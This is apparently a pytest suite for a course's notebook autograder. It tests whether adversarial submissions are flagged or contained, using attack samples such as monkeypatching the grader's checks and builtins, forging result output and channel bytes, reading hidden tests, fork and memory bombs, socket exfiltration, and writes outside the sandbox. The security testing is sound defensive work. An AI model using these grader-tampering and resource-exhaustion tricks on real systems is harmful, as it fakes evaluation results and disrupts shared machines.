"""Adversarial submissions: each attack scores 0 on what it fakes or is flagged, stays inside its limits, and leaves
the other submissions of its batch graded correctly (see the threat model in mlmc_course/grading/grade.py).

Two batches run, each with honest neighbours (a full solution and the untouched student notebook):
* screened (as `mlmc-course grade` runs): the attacks are flagged, or fail on their own;
* unscreened (`--no-screen`): the same attacks run, and the sandbox, the snapshot, the fresh checks and the
  authenticated channel must contain them.
"""

from __future__ import annotations

import os
import re
import socket
from pathlib import Path

import nbformat
import pytest

from mlmc_course.grading import isolate
from mlmc_course.grading.batch import Entry, grade_batch
from mlmc_course.grading.samples import answers_of, fill, student_notebook
from tests.conftest import ROOT

CAPS = isolate.probe()
FULL = CAPS.user and CAPS.net and CAPS.mount and CAPS.readonly
# On a laptop without root the containment tests skip; under CI=true (root on the CI machines) they must run.
needs_isolation = pytest.mark.skipif(
    not FULL and os.environ.get("CI") != "true",
    reason=f"needs root and Linux namespaces (this machine: {CAPS}); run the suite as root to test them",
)
LIMITS = isolate.Limits(cpu_s=10, wall_s=90, setup_s=240, memory_mb=1800, processes=96, file_mb=8)
L00, L02 = "00_start", "02_classification"
SOLUTION = answers_of(ROOT, L00)
HONEST_MC = SOLUTION["mc_integral"]["solution"]  # every attack notebook also answers mc_integral honestly
SECRET_TEST = "seed=101"  # text of lesson 00's hidden test of invariant_mass
PWNED = "mlmc-pwned"

PATCH_OTTER = """import otter

class _Passed:
    score, possible, passed_all = 100.0, 100.0, True

    def summary(self):
        return "All test cases passed!"

otter.Notebook.check = lambda self, question, *args, **kwargs: _Passed()
"""
PATCH_CHECKS = """for _name in dir(checks):
    if not _name.startswith("_") and callable(getattr(checks, _name)):
        setattr(checks, _name, lambda *a, **k: None)
"""
ANSWER_PATCHING_CHECKS = """def invariant_mass(p1, p2):
    return p1[:, 0] * 0


checks.invariant_mass = lambda *a, **k: None
"""
ANSWER_PATCHING_BUILTIN = """import builtins

builtins.isinstance = lambda *a: True
builtins.abs = lambda x: 0.0


def invariant_mass(p1, p2):
    return p1[:, 0] * 0
"""
ANSWER_PATCHING_NUMPY = """def invariant_mass(p1, p2):
    return p1[:, 0] * 0


np.allclose = lambda *a, **k: True
"""
FAKE_PRINT = """def invariant_mass(p1, p2):
    print("invariant_mass results: All test cases passed!")
    print('MLMC_GRADE_RESULTS={"invariant_mass": {"score": 1.0, "possible": 1.0, "passed": true, "message": ""}}')
    return p1[:, 0] * 0
"""
FORGE_CHANNEL = """import sys

_fake = b'0' * 64 + b' {"seq": 0, "kind": "done"}\\n'
np.frombuffer(_fake, dtype=np.uint8).tofile("/proc/self/fd/" + sys.argv[1])


def invariant_mass(p1, p2):
    return p1[:, 0] * 0
"""
READ_HIDDEN_OPEN = f"""def invariant_mass(p1, p2):
    raise ValueError(open({str(ROOT / "autograder" / f"{L00}.ipynb")!r}).read())
"""
READ_HIDDEN_NUMPY = f"""_hidden = {str(ROOT / "autograder" / f"{L00}.ipynb")!r}


def invariant_mass(p1, p2):
    raise ValueError(np.fromfile(_hidden, dtype=np.uint8).tobytes().decode())
"""
INFINITE_LOOP = """def invariant_mass(p1, p2):
    while True:
        pass
"""
MEMORY_BOMB = """def invariant_mass(p1, p2):
    blocks = []
    while True:
        blocks.append(np.ones(2**24))
"""
FORK_BOMB = """import os

while True:
    os.fork()
"""
NETWORK = """import socket


def invariant_mass(p1, p2):
    with socket.create_connection(("127.0.0.1", {port}), timeout=5) as conn:
        conn.sendall(b"stolen")
    return p1[:, 0] * 0
"""
WRITE_OUTSIDE = """_targets = {targets!r}


def invariant_mass(p1, p2):
    for target in _targets:
        np.save(target, np.zeros(3))
    return p1[:, 0] * 0
"""
ESCAPE_VIA_TORCH_SYS = """def invariant_mass(p1, p2):
    torch.sys.modules["mlmc_course.checks.l00_start"].invariant_mass = lambda *a, **k: None
    return p1[:, 0] * 0
"""


def _write(folder: Path, name: str, nb: nbformat.NotebookNode) -> Entry:
    path = folder / name / "submission.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(nb, path)
    return Entry(name, path)


def _attack(folder: Path, name: str, answer: str | None = None, extra: list[str] = (), stem: str = L00) -> Entry:
    answers = {"mc_integral": HONEST_MC} if stem == L00 else {}
    if answer is not None:
        answers["invariant_mass"] = answer
    return _write(folder, name, fill(ROOT, stem, answers, extra_after_setup=list(extra)))


def _honest(folder: Path) -> list[Entry]:
    full = {q: a["solution"] for q, a in SOLUTION.items()}
    return [
        _write(folder, "honest_full", fill(ROOT, L00, full)),
        _write(folder, "honest_empty", student_notebook(ROOT, L00)),
    ]


def _results(entries: list[Entry]) -> dict[str, dict]:
    out = {}
    for e in entries:
        assert e.submission is not None, f"{e.student} was not graded: {e.error}"
        out[e.student] = {r.name: r for r in e.submission.results}
    return out


def _assert_honest(results: dict[str, dict]) -> None:
    assert all(r.status == "passed" and r.score == r.possible for r in results["honest_full"].values())
    assert all(r.score == 0 and r.status == "failed" for r in results["honest_empty"].values())


def _sandbox_processes(uids: set[int]) -> list[int]:
    """Processes of these sandbox users still alive."""
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            uid = os.stat(f"/proc/{pid}").st_uid
        except FileNotFoundError:
            continue
        if uid in uids:
            out.append(int(pid))
    return out


@pytest.fixture(scope="module")
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.setblocking(False)
    yield server
    server.close()


@pytest.fixture(scope="module")
def targets(tmp_path_factory):
    here = tmp_path_factory.mktemp("outside")
    return [str(ROOT / f"{PWNED}.npy"), f"/tmp/{PWNED}.npy", str(here / f"{PWNED}.npy")]


@pytest.fixture(scope="module")
def screened(tmp_path_factory, listener, targets):
    folder = tmp_path_factory.mktemp("screened")
    port = listener.getsockname()[1]
    entries = _honest(folder) + [
        _attack(folder, "issue_patch_otter", stem=L02, extra=[PATCH_OTTER]),
        _attack(folder, "issue_patch_checks", stem=L02, extra=[PATCH_CHECKS]),
        _attack(folder, "answer_patching_checks", ANSWER_PATCHING_CHECKS),
        _attack(folder, "answer_patching_builtin", ANSWER_PATCHING_BUILTIN),
        _attack(folder, "answer_patching_numpy", ANSWER_PATCHING_NUMPY),
        _attack(folder, "fake_print", FAKE_PRINT),
        _attack(folder, "forge_channel", FORGE_CHANNEL),
        _attack(folder, "read_hidden_open", READ_HIDDEN_OPEN),
        _attack(folder, "read_hidden_numpy", READ_HIDDEN_NUMPY),
        _attack(folder, "infinite_loop", INFINITE_LOOP),
        _attack(folder, "memory_bomb", MEMORY_BOMB),
        _attack(folder, "fork_bomb", FORK_BOMB),
        _attack(folder, "network", NETWORK.format(port=port)),
        _attack(folder, "write_outside", WRITE_OUTSIDE.format(targets=targets)),
        _attack(folder, "escape_via_torch_sys", ESCAPE_VIA_TORCH_SYS),
    ]
    nb = nbformat.read(entries[1].path, as_version=4)  # raising the points in the metadata gains nothing
    for test in nb.metadata["otter"]["tests"].values():
        test["points"] = 100
    nbformat.write(nb, entries[1].path)
    grade_batch(entries, ROOT, jobs=2, limits=LIMITS, progress=False)
    screened_subs.update({e.student: e.submission for e in entries if e.submission})
    return _results(entries)


screened_subs: dict = {}  # student -> Submission of the screened batch


FLAGGED = {
    "answer_patching_checks": "grader's",
    "answer_patching_builtin": "builtins",
    "answer_patching_numpy": "np.allclose",
    "forge_channel": "/proc",
    "read_hidden_open": "open",
    "read_hidden_numpy": "fromfile",
    "fork_bomb": "os",
    "network": "socket",
    "write_outside": ".save",
    "escape_via_torch_sys": "sys",
}


@pytest.mark.parametrize("attack", sorted(FLAGGED))
def test_screen_flags_the_attack_and_grades_the_rest(screened, attack):
    result = screened[attack]
    assert result["invariant_mass"].status == "flagged" and result["invariant_mass"].score == 0
    assert FLAGGED[attack] in result["invariant_mass"].message
    assert result["mc_integral"].status == "passed" and result["mc_integral"].score == 1  # the honest answer
    assert result["sample_lifetime"].score == 0  # the stub


@pytest.mark.parametrize("attack", ["issue_patch_otter", "issue_patch_checks"])
def test_the_two_attacks_of_issue_18_score_zero(screened, attack):
    result = screened[attack]
    assert [r.score for r in result.values()] == [0.0] * len(result)
    assert all(r.status == "failed" and "not written yet" in r.message for r in result.values())
    notes = " ".join(screened_subs[attack].notes)  # the added cell is not run, but the lecturer hears of it
    assert "outside the exercises, not run" in notes and ("otter" in notes or "setattr" in notes)


def test_the_submission_cannot_set_its_points(screened):
    assert [r.possible for r in screened["honest_empty"].values()] == [1.0, 1.0, 1.0]


def test_printed_results_are_not_results(screened):
    r = screened["fake_print"]["invariant_mass"]
    assert r.status == "failed" and r.score == 0 and "do not match" in r.message


def test_honest_neighbours_of_the_attacks_are_graded_correctly(screened):
    _assert_honest(screened)


def test_runaway_answers_are_stopped_and_the_rest_is_graded(screened):
    loop = screened["infinite_loop"]
    assert loop["invariant_mass"].status == "stopped"
    assert re.search("CPU seconds|wall-clock limit", loop["invariant_mass"].message)  # which comes first: load
    bomb = screened["memory_bomb"]
    assert bomb["invariant_mass"].status == "stopped" and "memory" in bomb["invariant_mass"].message
    for result in (loop, bomb):
        assert result["mc_integral"].status == "passed" and result["sample_lifetime"].score == 0
    assert screened_subs["infinite_loop"].restarts == 1  # a fresh sandbox graded the questions after it


# --- the same attacks unscreened: the sandbox and the worker must contain them --------------------------------


@pytest.fixture(scope="module")
def unscreened(tmp_path_factory, listener, targets):
    folder = tmp_path_factory.mktemp("unscreened")
    port = listener.getsockname()[1]
    entries = _honest(folder) + [
        _attack(folder, "answer_patching_checks", ANSWER_PATCHING_CHECKS),
        _attack(folder, "answer_patching_builtin", ANSWER_PATCHING_BUILTIN),
        _attack(folder, "answer_patching_numpy", ANSWER_PATCHING_NUMPY),
        _attack(folder, "escape_via_torch_sys", ESCAPE_VIA_TORCH_SYS),
        _attack(folder, "forge_channel", FORGE_CHANNEL),
        _attack(folder, "read_hidden_numpy", READ_HIDDEN_NUMPY),
        _attack(folder, "memory_bomb", MEMORY_BOMB),
        _attack(folder, "fork_bomb", FORK_BOMB),
        _attack(folder, "network", NETWORK.format(port=port)),
        _attack(folder, "write_outside", WRITE_OUTSIDE.format(targets=targets)),
    ]
    grade_batch(entries, ROOT, jobs=2, limits=LIMITS, use_screen=False, progress=False)
    return _results(entries), entries


@pytest.mark.parametrize(
    "attack", ["answer_patching_checks", "answer_patching_builtin", "answer_patching_numpy", "escape_via_torch_sys"]
)
def test_patches_do_not_reach_the_fresh_checks(unscreened, attack):
    result = unscreened[0][attack]
    assert result["invariant_mass"].score == 0 and result["invariant_mass"].status == "failed"
    assert result["mc_integral"].status == "passed"


def test_bytes_forged_into_the_channel_are_refused(unscreened):
    r = unscreened[0]["forge_channel"]["invariant_mass"]
    assert r.score == 0
    if CAPS.user:  # the pipe belongs to root: the sandbox user cannot even open /proc/self/fd/N
        assert "Permission denied" in r.message
    else:  # the bytes arrive, fail verification, and the whole submission goes to review
        assert "tampered" in r.message


@needs_isolation
def test_hidden_tests_are_out_of_reach(unscreened):
    r = unscreened[0]["read_hidden_numpy"]["invariant_mass"]
    assert r.score == 0 and SECRET_TEST not in r.message and "No such file" in r.message


@needs_isolation
def test_network_and_files_outside_the_scratch_are_out_of_reach(unscreened, listener, targets):
    result = unscreened[0]
    for name in ("network", "write_outside"):
        assert result[name]["invariant_mass"].score == 0
    assert "unreachable" in result["network"]["invariant_mass"].message
    with pytest.raises(BlockingIOError):
        listener.accept()  # nobody connected
    assert not [t for t in targets if Path(t).exists()]
    # the checkout is mounted read-only in the sandbox; under /tmp (a private tmpfs there) the path is not writable
    message = result["write_outside"]["invariant_mass"].message
    assert "Read-only file system" in message or "Permission denied" in message, message


@needs_isolation
def test_fork_and_memory_bombs_stay_inside_their_limits(unscreened):
    results, entries = unscreened
    fork = results["fork_bomb"]
    assert fork["invariant_mass"].score == 0 and fork["mc_integral"].status == "passed"
    bomb = next(e for e in entries if e.student == "memory_bomb").submission
    assert results["memory_bomb"]["invariant_mass"].status == "stopped"
    assert bomb.peak_mb < LIMITS.memory_mb
    uids = {u for e in entries for u in e.submission.sandbox_uids}
    assert len(uids) >= len(entries)  # each submission ran as users of its own
    assert _sandbox_processes(uids) == []  # nothing of any sandbox is left running


def test_honest_neighbours_of_unscreened_attacks_are_graded_correctly(unscreened):
    _assert_honest(unscreened[0])
